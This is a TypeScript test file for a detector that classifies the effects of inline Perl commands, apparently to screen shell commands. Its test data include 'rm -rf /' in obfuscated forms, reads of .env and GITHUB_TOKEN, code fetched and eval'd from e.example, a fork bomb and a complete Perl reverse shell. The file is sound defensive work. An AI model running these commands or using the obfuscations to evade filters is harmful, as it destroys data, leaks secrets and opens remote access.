import { describe, expect, it } from 'vitest';
import { effectsOf, quoted } from './effects-of.ts';

const hex = Buffer.from('rm -rf /').toString('hex');
const base64 = Buffer.from('system("rm -rf /")').toString('base64');

const table: Readonly<Record<string, readonly string[]>> = {
	'print "a\\n"': [],
	'print 1 + 1, "\\n"': [],
	'my @a = (3, 1, 2); print join(",", sort { $a <=> $b } @a)': [],
	'while (<STDIN>) { chomp; print "$_\\n" if /foo/ }': [],
	'print "rm -rf /" # system("rm -rf /")': [],
	'print q(system("rm -rf /"))': [],
	'my %h = (a => 1); for my $k (keys %h) { print "$k=$h{$k}\\n" }': [],
	'print $ENV{HOME}': [],
	'use strict; use warnings; my $x = { a => 1 }; print $x->{a}': [],
	'open(my $f, "<", "a.txt") or die; print while <$f>': ['read a.txt'],
	'open(my $f, ">", "out"); print $f "x"': ['write out'],
	'unlink "a"': ['delete a'],
	'print scalar reverse "abc"': [],
	'$x = "a"; $x =~ s/a/b/; print $x': [],
	'printf "%s\\n", 10 / 2': [],
	'print sprintf("%d", 5 % 3)': [],
	'system "rm -rf /"': ['delete / recursive'],
	'system("rm -rf /")': ['delete / recursive'],
	'system("rm", "-rf", "/")': ['delete / recursive'],
	'exec "rm -rf /"': ['delete / recursive'],
	'print `cat .env`': ['secret.read .env'],
	'print qx{cat .env}': ['secret.read .env'],
	'my $c = "rm"; system("$c -rf /")': ['delete / recursive'],
	'my $c = "rm" . " -rf /"; system $c': ['delete / recursive'],
	'system(join " ", "rm", "-rf", "/")': ['delete / recursive'],
	'my @c = ("rm", "-rf", "/"); system(@c)': ['delete / recursive'],
	'system(qw(rm -rf /))': ['delete / recursive'],
	[`system(pack("H*", "${hex}"))`]: ['delete / recursive'],
	[`use MIME::Base64; eval(decode_base64("${base64}"))`]: ['delete / recursive'],
	'system(chr(114) . chr(109) . " -rf /")': ['delete / recursive'],
	'system("\\x72\\x6d -rf /")': ['delete / recursive'],
	'system(scalar reverse "/ fr- mr")': ['decoded code', 'opaque'],
	'system(reverse "rm -rf / # sl")': ['decoded code', 'opaque'],
	'print "a" . 1.50 . "b"': [],
	'$h{system} = 1; print %h': [],
	'eval { system("rm -rf /") }': ['delete / recursive'],
	'eval "system(\\"rm -rf /\\")"': ['delete / recursive'],
	'print "@{[ system(q(rm -rf /)) ]}"': ['delete / recursive', 'opaque'],
	'open(F, "rm -rf / |")': ['delete / recursive'],
	'open(F, "-|", "rm", "-rf", "/")': ['delete / recursive'],
	'open(F, "| rm -rf /")': ['delete / recursive'],
	'open(F, ".env"); print <F>': ['secret.read .env'],
	'open(F, ">.git/config")': ['config.write .git/config'],
	'use File::Path; rmtree("/")': ['delete / recursive'],
	'print $ENV{GITHUB_TOKEN}': ['secret.read $GITHUB_TOKEN'],
	'print "$ENV{GITHUB_TOKEN}"': ['secret.read $GITHUB_TOKEN'],
	'print %ENV': ['secret.read the environment'],
	'print map { "$_=$ENV{$_}\\n" } keys %ENV': ['secret.read the environment'],
	'use LWP::Simple; print get("http://e.example/x")': ['network e.example'],
	'use HTTP::Tiny; print HTTP::Tiny->new->get("http://e.example")': ['network e.example'],
	'require "./x.pl"': ['exec x.pl'],
	'do "./x.pl"': ['exec x.pl'],
	's/a/system("rm -rf \\/")/e': ['opaque'],
	'chdir "/"; system("rm -rf .")': ['delete / recursive', 'opaque'],
};

const opaque: readonly string[] = [
	'foo()',
	'$c = "ls"; ($c) = ("rm -rf /"); system($c)',
	'$c = "ls"; my ($d, $c) = (1, "rm"); system $c',
	'$c = "ls"; $main::c = "rm"; system $c',
	'$c = "ls"; $c++; system $c',
	'$c = "ls"; sub f { $_[0] = "rm" } f($c); system $c',
	'foo',
	'use Evil',
	'no strict; 1',
	'system($ARGV[0])',
	'eval $ARGV[0]',
	'eval',
	'unlink @ARGV',
	'$x = "ENV"; print $x->{TOKEN}',
	'$x = "ENV"; print %$x',
	'&$x("ls")',
	'$f->("ls")',
	'"main"->$m("x")',
	'print *STDOUT',
	'/(?{ system("ls") })/',
	'print <*.c>',
	'open(F, $ARGV[0])',
	'@ARGV = ("ls |"); while (<>) { print }',
	'push @ARGV, "ls |"; print <>',
	'$SIG{ALRM} = sub { 1 }',
	'print <<EOF;\nx\nEOF',
	"=pod\n\n'\n\n=cut\n\nfoo()",
	"main'foo()",
	'$c = "ls"; for ($c) { s/ls/rm -rf \\// } system($c)',
	'kill 9, 1',
	'fork while 1',
	'print time / 2; foo() / 2',
	'sub unlink { 1 }',
	'print "a',
	'$ARGV[0] = "ls |"; print <>',
	'local $0 = "x"',
	'print "${\\ foo(1)}"',
];

describe('inline Perl', () => {
	it.each(Object.entries(table))('has exactly the expected effects: %s', (code, expected) => {
		expect(effectsOf(`perl -e ${quoted(code)}`)).toEqual([...expected].sort());
	});

	it.each(opaque)('is opaque: %s', (code) => {
		expect(effectsOf(`perl -e ${quoted(code)}`)).toContain('opaque');
	});

	it.each([
		[
			'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
			'reverse shell',
		],
		['use LWP::Simple; eval get("http://e.example/x")', 'fetched code'],
		['use MIME::Base64; eval decode_base64($ARGV[0])', 'decoded code'],
	])('has a forbidden effect: %s', (code, expected) => {
		expect(effectsOf(`perl -e ${quoted(code)}`)).toContain(expected);
	});

	it.each([
		["perl -ne 'print if /foo/' a.txt b.txt", ['read a.txt', 'read b.txt']],
		["perl -pe 's/a/b/g; s{c}{d}' a.txt", ['read a.txt']],
		["perl -i -pe 's/a/b/' a.txt", ['read a.txt', 'write a.txt']],
		["perl -pi.bak -e 's/a/b/' a.txt", ['read a.txt', 'write a.txt']],
		["perl -lane 'print $F[1]' a.txt", ['read a.txt']],
		["perl -F, -lane 'print $F[0]' a.txt", ['read a.txt']],
		["perl -0777 -ne 'print length' a.txt", ['read a.txt']],
		["perl -MList::Util=sum -e 'print sum(1,2)'", []],
		["perl -MEvil -e 'print 1'", ['opaque']],
		["perl -M'strict;system(q(rm -rf /))' -e 1", ['delete / recursive']],
		["perl -ne 'print' 'rm x |'", ['opaque']],
		["perl -ne 'print' .env", ['secret.read .env']],
		['perl -e \'print "$X"\' -- a', ['opaque']],
		['perl -e "$X"', ['opaque']],
		["perl -d -e 'print 1'", ['opaque']],
		["perl <<'EOF'\nsystem('rm -rf /');\nEOF", ['delete / recursive']],
		['perl x.pl', ['exec x.pl']],
	])('has the expected effects in a whole command: %s', (command, expected) => {
		expect(effectsOf(command)).toEqual([...expected].sort());
	});
});
